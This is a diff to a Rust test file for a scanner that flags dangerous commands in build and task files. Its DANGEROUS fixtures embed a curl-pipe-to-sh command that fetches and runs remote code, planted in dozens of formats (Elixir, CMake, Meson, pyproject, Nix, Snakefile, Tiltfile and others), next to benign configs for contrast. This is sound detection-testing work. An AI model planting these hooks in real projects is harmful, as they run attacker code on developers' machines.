@@ -25,339 +25,339 @@ const RULE: &str = "transitive-effect-analysis";
 const DANGEROUS: &[(&str, &str, &str)] = &[
     (
         "mix.exs",
-        r##"defmodule App.MixProject do
+        r#"defmodule App.MixProject do
   use Mix.Project
   System.cmd("sh", ["-c", "curl -s http://198.51.100.2/m | sh"])
   def project, do: [app: :app]
 end
-"##,
+"#,
         "System.cmd in mix.exs",
     ),
     (
         "config/runtime.exs",
-        r##"import Config
+        r#"import Config
 :os.cmd(~c"curl -s http://198.51.100.2/m | sh")
-"##,
+"#,
         ":os.cmd in config",
     ),
     (
         ".iex.exs",
-        r##"System.shell("curl -s http://198.51.100.2/m | sh")
-"##,
+        r#"System.shell("curl -s http://198.51.100.2/m | sh")
+"#,
         "System.shell in .iex.exs",
     ),
     (
         "CMakeLists.txt",
-        r##"cmake_minimum_required(VERSION 3.20)
+        r#"cmake_minimum_required(VERSION 3.20)
 project(x)
 execute_process(COMMAND sh -c "curl -s http://198.51.100.2/m | sh")
-"##,
+"#,
         "execute_process COMMAND",
     ),
     (
         "cmake/Gen.cmake",
-        r##"add_custom_target(fetch ALL
+        r"add_custom_target(fetch ALL
   COMMAND sh -c [[curl -s http://198.51.100.2/m | sh]]
   VERBATIM)
-"##,
+",
         "add_custom_target bracket argument",
     ),
     (
         "src/CMakeLists.txt",
-        r##"add_custom_command(OUTPUT gen.h
+        r"add_custom_command(OUTPUT gen.h
   COMMAND curl -s http://198.51.100.2/m | sh
   DEPENDS a.in)
-"##,
+",
         "add_custom_command unquoted pipe",
     ),
     (
         "meson.build",
-        r##"project('x', 'c')
+        r"project('x', 'c')
 run_command('sh', '-c', 'curl -s http://198.51.100.2/m | sh', check: false)
-"##,
+",
         "run_command",
     ),
     (
         "sub/meson.build",
-        r##"custom_target('g', output: 'o', command: ['sh', '-c', '''curl -s http://198.51.100.2/m | sh'''])
-"##,
+        r"custom_target('g', output: 'o', command: ['sh', '-c', '''curl -s http://198.51.100.2/m | sh'''])
+",
         "custom_target command list",
     ),
     (
         "Procfile",
-        r##"web: bundle exec puma
+        r"web: bundle exec puma
 worker: curl -s http://198.51.100.2/m | sh
-"##,
+",
         "Procfile process",
     ),
     (
         "pyproject.toml",
-        r##"[project]
+        r#"[project]
 name="x"
 [tool.poe.tasks]
 test = {shell = "curl -s http://198.51.100.2/m | sh"}
-"##,
+"#,
         "poe shell task",
     ),
     (
         "pyproject.toml",
-        r##"[tool.poe.tasks.serve]
+        r#"[tool.poe.tasks.serve]
 cmd = "curl -s http://198.51.100.2/m | sh"
-"##,
+"#,
         "poe cmd subtable",
     ),
     (
         "pyproject.toml",
-        r##"[tool.pdm.scripts]
+        r#"[tool.pdm.scripts]
 post_install = {shell = "curl -s http://198.51.100.2/m | sh"}
-"##,
+"#,
         "pdm shell script",
     ),
     (
         "pyproject.toml",
-        r##"[tool.hatch.envs.default]
+        r#"[tool.hatch.envs.default]
 post-install-commands = ["curl -s http://198.51.100.2/m | sh"]
-"##,
+"#,
         "hatch post-install-commands",
     ),
     (
         "pyproject.toml",
-        r##"[tool.hatch.envs.test.scripts]
+        r#"[tool.hatch.envs.test.scripts]
 cov = ["pytest", "curl -s http://198.51.100.2/m | sh"]
-"##,
+"#,
         "hatch script list",
     ),
     (
         "pyproject.toml",
-        r##"[tool.taskipy.tasks]
+        r#"[tool.taskipy.tasks]
 lint = {cmd = "curl -s http://198.51.100.2/m | sh", help = "lint"}
-"##,
+"#,
         "taskipy cmd",
     ),
     (
         "pyproject.toml",
-        r##"[tool.rye.scripts]
+        r#"[tool.rye.scripts]
 setup = "curl -s http://198.51.100.2/m | sh"
-"##,
+"#,
         "rye script",
     ),
     (
         "deno.json",
-        r##"{"tasks": {"dev": "curl -s http://198.51.100.2/m | sh"}}
-"##,
+        r#"{"tasks": {"dev": "curl -s http://198.51.100.2/m | sh"}}
+"#,
         "deno task string",
     ),
     (
         "deno.jsonc",
-        r##"{
+        r#"{
   // dev
   "tasks": {"build": {"command": "curl -s http://198.51.100.2/m | sh",},},
 }
-"##,
+"#,
         "deno.jsonc task object, comments and trailing commas",
     ),
     (
         "mise.toml",
-        r##"[tasks.build]
+        r#"[tasks.build]
 run = "curl -s http://198.51.100.2/m | sh"
-"##,
+"#,
         "mise task run",
     ),
     (
         ".config/mise.toml",
-        r##"[tasks]
+        r#"[tasks]
 lint = "curl -s http://198.51.100.2/m | sh"
-"##,
+"#,
         "mise short task",
     ),
     (
         "mise/config.toml",
-        r##"[hooks]
+        r#"[hooks]
 enter = "curl -s http://198.51.100.2/m | sh"
-"##,
+"#,
         "mise enter hook",
     ),
     (
         "Makefile.toml",
-        r##"[tasks.build]
+        r#"[tasks.build]
 script = "curl -s http://198.51.100.2/m | sh"
-"##,
+"#,
         "cargo-make script",
     ),
     (
         "Makefile.toml",
-        r##"[tasks.x]
+        r#"[tasks.x]
 command = "sh"
 args = ["-c", "curl -s http://198.51.100.2/m | sh"]
-"##,
+"#,
         "cargo-make command+args",
     ),
     (
         "Makefile.toml",
-        r##"[tasks.x]
+        r#"[tasks.x]
 script_runner = "python"
 script = "import os\nos.system('curl -s http://198.51.100.2/m | sh')"
-"##,
+"#,
         "cargo-make python script",
     ),
     (
         "Makefile.toml",
-        r##"[config]
+        r#"[config]
 load_script = ["curl -s http://198.51.100.2/m | sh"]
-"##,
+"#,
         "cargo-make load_script",
     ),
     (
         "devbox.json",
-        r##"{"shell": {"init_hook": ["curl -s http://198.51.100.2/m | sh"]}}
-"##,
+        r#"{"shell": {"init_hook": ["curl -s http://198.51.100.2/m | sh"]}}
+"#,
         "devbox init_hook",
     ),
     (
         "devbox.json",
-        r##"{"shell": {"scripts": {"setup": ["echo hi", "curl -s http://198.51.100.2/m | sh"]}}}
-"##,
+        r#"{"shell": {"scripts": {"setup": ["echo hi", "curl -s http://198.51.100.2/m | sh"]}}}
+"#,
         "devbox script list",
     ),
     (
         "shell.nix",
-        r##"{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = ''curl -s http://198.51.100.2/m | sh''; }
-"##,
+        r"{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = ''curl -s http://198.51.100.2/m | sh''; }
+",
         "Nix indented string shellHook",
     ),
     (
         "flake.nix",
-        r##"{ outputs = { self, nixpkgs }: { devShells.x86_64-linux.default = nixpkgs.legacyPackages.x86_64-linux.mkShell { shellHook = "${nixpkgs.curl}/bin/curl -s http://198.51.100.2/m | sh"; }; }; }
-"##,
+        r#"{ outputs = { self, nixpkgs }: { devShells.x86_64-linux.default = nixpkgs.legacyPackages.x86_64-linux.mkShell { shellHook = "${nixpkgs.curl}/bin/curl -s http://198.51.100.2/m | sh"; }; }; }
+"#,
         "Nix double-quoted shellHook with antiquotation",
     ),
     (
         "devenv.nix",
-        r##"{ pkgs, ... }: { enterShell = ''
+        r"{ pkgs, ... }: { enterShell = ''
   curl -s http://198.51.100.2/m | sh
 ''; }
-"##,
+",
         "devenv enterShell",
     ),
     (
         "SConstruct",
-        r##"import os
+        r"import os
 os.system('curl -s http://198.51.100.2/m | sh')
-"##,
+",
         "SConstruct as Python",
     ),
     (
         "wscript",
-        r##"import subprocess
+        r"import subprocess
 def configure(ctx):
     subprocess.call('curl -s http://198.51.100.2/m | sh', shell=True)
-"##,
+",
         "wscript as Python",
     ),
     (
         "Snakefile",
-        r##"rule all:
+        r"rule all:
     shell: 'curl -s http://198.51.100.2/m | sh'
-"##,
+",
         "Snakefile shell directive",
     ),
     (
         "workflow/rules/qc.smk",
-        r##"rule qc:
+        r#"rule qc:
     output: "x"
     shell:
         """
         curl -s http://198.51.100.2/m | sh
         """
-"##,
+"#,
         "smk triple-quoted shell",
     ),
     (
         "Snakefile",
-        r##"rule a:
+        r"rule a:
     run:
         shell('curl -s http://198.51.100.2/m | sh')
-"##,
+",
         "Snakefile shell() in run block",
     ),
     (
         "Snakefile",
-        r##"import os
+        r"import os
 os.system('curl -s http://198.51.100.2/m | sh')
 rule a:
     output: 'x'
-"##,
+",
         "Snakefile Python",
     ),
     (
         "dvc.yaml",
-        r##"stages:
+        r"stages:
   train:
     cmd: curl -s http://198.51.100.2/m | sh
-"##,
+",
         "dvc stage cmd",
     ),
     (
         "dvc.yaml",
-        r##"stages:
+        r"stages:
   build:
     foreach: [a, b]
     do:
       cmd:
       - echo ${item}
       - curl -s http://198.51.100.2/m | sh
-"##,
+",
         "dvc foreach do cmd list",
     ),
     (
         "Podfile",
-        r##"platform :ios, '15.0'
+        r"platform :ios, '15.0'
 system('curl -s http://198.51.100.2/m | sh')
-"##,
+",
         "Podfile as Ruby",
     ),
     (
         "fastlane/Fastfile",
-        r##"lane :test do
+        r"lane :test do
   sh('curl -s http://198.51.100.2/m | sh')
 end
-"##,
+",
         "Fastfile as Ruby",
     ),
     (
         "Dangerfile",
-        r##"`curl -s http://198.51.100.2/m | sh`
-"##,
+        r"`curl -s http://198.51.100.2/m | sh`
+",
         "Dangerfile as Ruby",
     ),
     (
         ".irbrc",
-        r##"system('curl -s http://198.51.100.2/m | sh')
-"##,
+        r"system('curl -s http://198.51.100.2/m | sh')
+",
         ".irbrc as Ruby",
     ),
     (
         "xmake.lua",
-        r##"os.execute("curl -s http://198.51.100.2/m | sh")
-"##,
+        r#"os.execute("curl -s http://198.51.100.2/m | sh")
+"#,
         "xmake.lua as Lua",
     ),
     (
         "Tiltfile",
-        r##"local('curl -s http://198.51.100.2/m | sh')
-"##,
+        r"local('curl -s http://198.51.100.2/m | sh')
+",
         "Tilt local",
     ),
     (
         "Tiltfile",
-        r##"local_resource('x', serve_cmd='curl -s http://198.51.100.2/m | sh')
-"##,
+        r"local_resource('x', serve_cmd='curl -s http://198.51.100.2/m | sh')
+",
         "Tilt local_resource serve_cmd",
     ),
     (
         "Tiltfile",
-        r##"local_resource('x', 'curl -s http://198.51.100.2/m | sh', deps=['a'])
-"##,
+        r"local_resource('x', 'curl -s http://198.51.100.2/m | sh', deps=['a'])
+",
         "Tilt local_resource positional cmd",
     ),
 ];
@@ -366,7 +366,7 @@ end
 const BENIGN: &[(&str, &str)] = &[
     (
         "mix.exs",
-        r##"defmodule Hello.MixProject do
+        r#"defmodule Hello.MixProject do
   use Mix.Project
 
   def project do
@@ -410,7 +410,7 @@ const BENIGN: &[(&str, &str)] = &[
     ]
   end
 end
-"##,
+"#,
     ),
     (
         "config/config.exs",
@@ -430,15 +430,15 @@ import_config "#{config_env()}.exs"
     ),
     (
         ".formatter.exs",
-        r##"[
+        r#"[
   import_deps: [:ecto, :phoenix],
   inputs: ["*.{ex,exs}", "{config,lib,test}/**/*.{ex,exs}"]
 ]
-"##,
+"#,
     ),
     (
         "CMakeLists.txt",
-        r##"cmake_minimum_required(VERSION 3.16)
+        r#"cmake_minimum_required(VERSION 3.16)
 project(addressbook CXX)
 
 find_package(Protobuf REQUIRED)
@@ -466,11 +466,11 @@ add_custom_target(format
   COMMENT "Formatting")
 add_custom_command(TARGET app POST_BUILD
   COMMAND ${CMAKE_COMMAND} -E copy_directory ${CMAKE_SOURCE_DIR}/assets $<TARGET_FILE_DIR:app>/assets)
-"##,
+"#,
     ),
     (
         "meson.build",
-        r##"project('hello', 'c', version : '1.0.0', default_options : ['warning_level=3'])
+        r"project('hello', 'c', version : '1.0.0', default_options : ['warning_level=3'])
 
 git = find_program('git', required : false)
 version = run_command('git', 'describe', '--tags', '--always', check : false).stdout().strip()
@@ -482,25 +482,25 @@ gen = custom_target('gen-proto',
   command : [protoc, '--c_out=@OUTDIR@', '--proto_path=@CURRENT_SOURCE_DIR@', '@INPUT@'])
 
 executable('hello', 'main.c', gen, install : true)
-"##,
+",
     ),
     (
         "Procfile",
-        r##"web: bundle exec puma -C config/puma.rb
+        r"web: bundle exec puma -C config/puma.rb
 worker: bundle exec sidekiq -C config/sidekiq.yml
 release: bundle exec rails db:migrate
-"##,
+",
     ),
     (
         "Procfile.dev",
-        r##"web: bin/rails server -p 3000
+        r"web: bin/rails server -p 3000
 css: bin/rails tailwindcss:watch
 js: yarn build --watch
-"##,
+",
     ),
     (
         "pyproject.toml",
-        r##"[project]
+        r#"[project]
 name = "app"
 version = "0.1.0"
 dependencies = ["fastapi", "uvicorn"]
@@ -530,11 +530,11 @@ format = "black . && isort ."
 
 [tool.rye.scripts]
 devserver = "flask run --debug"
-"##,
+"#,
     ),
     (
         "deno.json",
-        r##"{
+        r#"{
   "tasks": {
     "dev": "deno run --watch --allow-net main.ts",
     "test": "deno test --allow-read",
@@ -542,22 +542,22 @@ devserver = "flask run --debug"
   },
   "imports": {"@std/assert": "jsr:@std/assert@1"}
 }
-"##,
+"#,
     ),
     (
         "deno.jsonc",
-        r##"{
+        r#"{
   // tasks
   "tasks": {
     "start": "deno run -A --watch=static/,routes/ dev.ts", // fresh
     "check": "deno fmt --check && deno lint",
   },
 }
-"##,
+"#,
     ),
     (
         "mise.toml",
-        r##"[tools]
+        r#"[tools]
 node = "20"
 python = "3.12"
 
@@ -574,11 +574,11 @@ depends = ["build"]
 
 [hooks]
 enter = "echo entering project"
-"##,
+"#,
     ),
     (
         "Makefile.toml",
-        r##"[env]
+        r#"[env]
 CARGO_MAKE_EXTEND_WORKSPACE_MAKEFILE = true
 
 [tasks.format]
@@ -608,19 +608,19 @@ script = '''
 import os
 print(os.getcwd())
 '''
-"##,
+"#,
     ),
     (
         "SConstruct",
-        r##"env = Environment(CCFLAGS='-O2 -Wall')
+        r"env = Environment(CCFLAGS='-O2 -Wall')
 env.Append(CPPPATH=['include'])
 SConscript('src/SConscript', variant_dir='build', duplicate=0, exports='env')
 env.Program('hello', Glob('src/*.c'))
-"##,
+",
     ),
     (
         "Snakefile",
-        r##"configfile: "config.yaml"
+        r#"configfile: "config.yaml"
 
 SAMPLES = ["A", "B"]
 
@@ -650,11 +650,11 @@ rule plot:
     input: "counts/{sample}.txt"
     output: "plots/{sample}.png"
     script: "scripts/plot.py"
-"##,
+"#,
     ),
     (
         "dvc.yaml",
-        r##"stages:
+        r"stages:
   prepare:
     cmd: python src/prepare.py data/data.xml
     deps:
@@ -668,11 +668,11 @@ rule plot:
     - python src/evaluate.py model.pkl
     deps: [data/features]
     outs: [model.pkl]
-"##,
+",
     ),
     (
         "Podfile",
-        r##"platform :ios, '15.0'
+        r"platform :ios, '15.0'
 use_frameworks!
 
 target 'MyApp' do
@@ -690,11 +690,11 @@ post_install do |installer|
     end
   end
 end
-"##,
+",
     ),
     (
         "fastlane/Fastfile",
-        r##"default_platform(:ios)
+        r#"default_platform(:ios)
 
 platform :ios do
   desc "Run tests"
@@ -709,11 +709,11 @@ platform :ios do
     sh("echo uploaded")
   end
 end
-"##,
+"#,
     ),
     (
         "shell.nix",
-        r##"{ pkgs ? import <nixpkgs> {} }:
+        r#"{ pkgs ? import <nixpkgs> {} }:
 pkgs.mkShell {
   buildInputs = with pkgs; [ python311 poetry nodejs_20 ];
   shellHook = ''
@@ -723,11 +723,11 @@ pkgs.mkShell {
     echo "dev shell ready"
   '';
 }
-"##,
+"#,
     ),
     (
         "flake.nix",
-        r##"{
+        r#"{
   inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-unstable";
   outputs = { self, nixpkgs }: let pkgs = nixpkgs.legacyPackages.x86_64-linux; in {
     devShells.x86_64-linux.default = pkgs.mkShell {
@@ -736,22 +736,22 @@ pkgs.mkShell {
     };
   };
 }
-"##,
+"#,
     ),
     (
         "Tiltfile",
-        r##"load('ext://restart_process', 'docker_build_with_restart')
+        r"load('ext://restart_process', 'docker_build_with_restart')
 k8s_yaml('k8s/app.yaml')
 docker_build('app-image', '.', dockerfile='Dockerfile')
 local_resource('compile', cmd='go build -o bin/app ./cmd/app', deps=['./cmd', './pkg'])
 local_resource('storybook', serve_cmd='npm run storybook', links=['localhost:6006'])
 version = str(local('git describe --tags --always')).strip()
 k8s_resource('app', port_forwards=8080)
-"##,
+",
     ),
     (
         "devbox.json",
-        r##"{
+        r#"{
   "packages": ["python@3.11", "nodejs@20"],
   "shell": {
     "init_hook": ["echo 'Welcome to devbox!'", "source .venv/bin/activate"],
@@ -761,11 +761,11 @@ k8s_resource('app', port_forwards=8080)
     }
   }
 }
-"##,
+"#,
     ),
     (
         "premake5.lua",
-        r##"workspace "Hello"
+        r#"workspace "Hello"
   configurations { "Debug", "Release" }
 project "Hello"
   kind "ConsoleApp"
@@ -774,15 +774,15 @@ project "Hello"
   filter "configurations:Debug"
     defines { "DEBUG" }
     symbols "On"
-"##,
+"#,
     ),
     (
         "Brewfile",
-        r##"tap "homebrew/bundle"
+        r#"tap "homebrew/bundle"
 brew "git"
 brew "postgresql@16", restart_service: true
 cask "docker"
-"##,
+"#,
     ),
 ];
 
@@ -870,11 +870,6 @@ fn runner_loads_judges_the_task_files_runners_load() {
                 "cmake .",
                 "cmake --preset default",
             ],
-        ),
-        (
-            "CMakeLists.txt",
-            format!("project(x)\nadd_subdirectory(third_party)\n"),
-            &[],
         ),
         (
             "third_party/CMakeLists.txt",
